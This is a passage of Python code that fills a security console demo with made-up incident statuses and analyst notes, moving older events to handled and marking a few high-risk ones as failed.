    "Confirmed attack; the attacker's address is blocked on Cloud Firewall and the host "
    "was checked for persistence. Nothing else found.",
    "False positive: the company's own vulnerability scanner (change CHG-2041).",
    "Brute-force attempts only, no successful logon. Password logon disabled on the host.",
    "Malicious file removed and the host re-installed from a clean image.",
)
_HANDLING_NOTES = (
    "Investigating: collecting the process tree and looking for the same hash on other hosts.",
    "Waiting for the application owner to confirm whether this traffic is expected.",
)
_FAILED_NOTE = (
    "Quarantining the file failed: the Security Center agent on the host did not respond."
)


@dataclass(frozen=True)
class PlannedStatus:
    event_id: int
    status: str  # "handling", "handled" or "failed" (failed passes through handling)
    note: str


def plan_event_statuses(events: Sequence[tuple[int, int]]) -> list[PlannedStatus]:
    """Which demo events to move out of Unhandled, from (id, risk) oldest first.

    The choice depends only on the events' order, not on their status, so a
    second run picks the same events (and finds them already moved). Older
    events are mostly handled, some recent ones are being handled, two have
    failed, and the newest stay Unhandled, as in a working SOC.
    """
    total = len(events)
    older, recent = events[: int(total * 0.6)], events[int(total * 0.6) : int(total * 0.85)]
    plan = [
        PlannedStatus(event_id, "handled", _HANDLED_NOTES[position % len(_HANDLED_NOTES)])
        for position, (event_id, _risk) in enumerate(older)
        if position % 4 != 3
    ]
    plan += [
        PlannedStatus(event_id, "handling", _HANDLING_NOTES[position % len(_HANDLING_NOTES)])
        for position, (event_id, _risk) in enumerate(recent)
        if position % 3 == 0
    ]
    # Handling fails mostly where it matters: prefer High-risk events.
    untouched = [event for position, event in enumerate(recent) if position % 3 != 0]
    untouched.sort(key=lambda event: -event[1])
    plan += [PlannedStatus(event_id, "failed", _FAILED_NOTE) for event_id, _ in untouched[:2]]
    return plan
